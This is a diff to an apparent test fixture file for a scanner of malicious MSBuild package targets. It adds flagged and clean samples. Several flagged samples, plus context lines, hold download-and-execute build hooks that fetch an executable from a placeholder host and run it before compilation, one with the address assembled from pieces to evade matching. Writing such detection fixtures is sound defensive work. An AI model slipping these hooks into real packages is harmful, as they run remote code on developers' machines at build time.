@@ -31,6 +31,18 @@ using (var client = new System.Net.WebClient())
 }
 System.Diagnostics.Process.Start(path);`;
 
+function downloadAndExec(between: string): string {
+  return `<Project>
+  <PropertyGroup><ToolFolder>$(BaseIntermediateOutputPath)tool/</ToolFolder></PropertyGroup>
+  <Target Name="Generate" BeforeTargets="CoreCompile" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
+    <DownloadFile SourceUrl="https://files.fixture.invalid/generate.exe" DestinationFolder="$(ToolFolder)" />
+    ${between}
+    <Exec Command="&quot;$(ToolFolder)generate.exe&quot; @(Schema)" />
+  </Target>
+</Project>
+`;
+}
+
 export const examples: Examples = {
   flagged: [
     {
@@ -46,6 +58,17 @@ export const examples: Examples = {
           `var done = true;${' '.repeat(400)}${dropper.replaceAll('\n', ' ')}`,
           `BeforeTargets="ResolveReferences" Condition="'$(CI)' == ''"`,
         ),
+      },
+    },
+    {
+      name: 'names-in-pieces',
+      about: 'The address and the name of the file are put together from pieces.',
+      files: {
+        'build/Fixture.Package.targets': inlineTask(`${guard}
+var address = "https://files." + "fixture" + ".invalid/a" + ".exe";
+var target = Path.GetTempPath() + "helper" + ".exe";
+new System.Net.WebClient().DownloadFile(address, target);
+System.Diagnostics.Process.Start(target);`),
       },
     },
     {
@@ -116,8 +139,38 @@ System.Diagnostics.Process.Start(path);`),
 `,
       },
     },
+    {
+      name: 'download-task',
+      about: 'MSBuild’s own task fetches a program that a command line then starts: held.',
+      level: 'suspicious',
+      files: { 'build/Fixture.Package.targets': downloadAndExec('') },
+    },
   ],
   clean: [
+    {
+      name: 'checks-the-digest',
+      about: 'The same, with a digest of the file in the build file.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': downloadAndExec(
+          `<VerifyFileHash File="$(ToolFolder)generate.exe" Hash="${'0'.repeat(64)}" />`,
+        ),
+      },
+    },
+    {
+      name: 'downloads-and-formats',
+      about: 'Fetches a schema, and runs a program of the package over the project.',
+      nearMiss: true,
+      files: {
+        'build/Fixture.Package.targets': `<Project>
+  <Target Name="Generate" BeforeTargets="CoreCompile">
+    <DownloadFile SourceUrl="https://schemas.fixture.invalid/a.xsd" DestinationFolder="$(IntermediateOutputPath)" />
+    <Exec Command="&quot;$(MSBuildThisFileDirectory)../tools/generate&quot; $(IntermediateOutputPath)" />
+  </Target>
+</Project>
+`,
+      },
+    },
     {
       name: 'starts-packaged-tool',
       about: 'Starts a compiler that lies in the package, and downloads nothing.',
